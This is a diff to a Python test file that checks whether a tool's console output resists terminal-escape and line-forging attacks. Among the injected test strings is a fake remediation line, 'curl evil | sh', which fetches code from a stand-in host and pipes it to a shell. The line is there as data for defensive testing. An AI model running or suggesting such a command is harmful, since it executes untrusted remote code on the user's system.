@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import logging
+import re
 import unicodedata
 
 import pytest
@@ -12,7 +13,7 @@ from hypothesis import strategies as st
 
 from provision.core.errors import ToolError
 from provision.core.findings import Finding, Level
-from provision.ui.console import Console, print_json, show_log
+from provision.ui.console import Console, Screen, print_json, show_log
 from tests.core.test_text import NASTY
 
 ADDRESS = "https://me:hunter2@host/"
@@ -20,19 +21,18 @@ text = st.text(st.sampled_from("".join(NASTY) + "ab[/red]\n\t"), max_size=30)
 shared = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50)
 
 
-@pytest.fixture(params=["plain", "styled"])
+@pytest.fixture(params=[None, 40])
 def console(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Console:
-    # Without colours of its own, every escape that comes out is a foreign one.
-    monkeypatch.setenv("NO_COLOR", "1")
-    monkeypatch.setenv("TERM", "dumb")
-    monkeypatch.delenv("FORCE_COLOR", raising=False)
+    """One that is piped, and one of a narrow terminal with colours."""
+    monkeypatch.setattr(Screen, "width", request.param)
     made = Console("provision")
-    made._styled = request.param == "styled"
+    made.out.styled = made.err.styled = bool(request.param)
     return made
 
 
 def _check(shown: str) -> None:
     shown.encode()
+    shown = re.sub("\x1b\\[[0-9;]+m", "", shown)  # its own colours: the texts have no digits
     found = {sign for sign in shown if unicodedata.category(sign) in {"Cc", "Zl", "Zp"}}
     assert not found - {"\n", "\t"}
     assert not found & set("\u202e\u2066\u200e")
@@ -51,17 +51,21 @@ def test_attack_whatever_is_shown_steers_no_terminal(
     console.error(ToolError(dirty, evidence=dirty, cause=dirty, remedy=dirty))
     console.finding(Finding("c", Level.ERROR, dirty, dirty, dirty, (dirty,)))
     console.table(["one", "two"], [[dirty, dirty]])
-    told = capsys.readouterr().err
-    assert told.count("***@host") >= 11
-    _check(told)
+    console.remark(dirty)
+    console.command(dirty)
+    told = capsys.readouterr()
+    assert (told.out.count("***@host"), told.err.count("***@host")) == (9, 6)
+    _check(told.out)
+    _check(told.err)
 
 
 def test_attack_no_name_of_a_file_looks_like_a_line_of_its_own(
     console: Console, capsys: pytest.CaptureFixture[str]
 ) -> None:
     console.note("ignored a\nerror: all is lost\n  remedy:   curl evil | sh")
+    console.remark("ignored a\nerror: all is lost\n  remedy:   curl evil | sh")
     console.error(ToolError("no b\nerror: all is lost"))
-    told = capsys.readouterr().err
+    told = "".join(capsys.readouterr())
     assert "error: all" in told
     assert "\nerror: all" not in told
     assert "\n  remedy" not in told
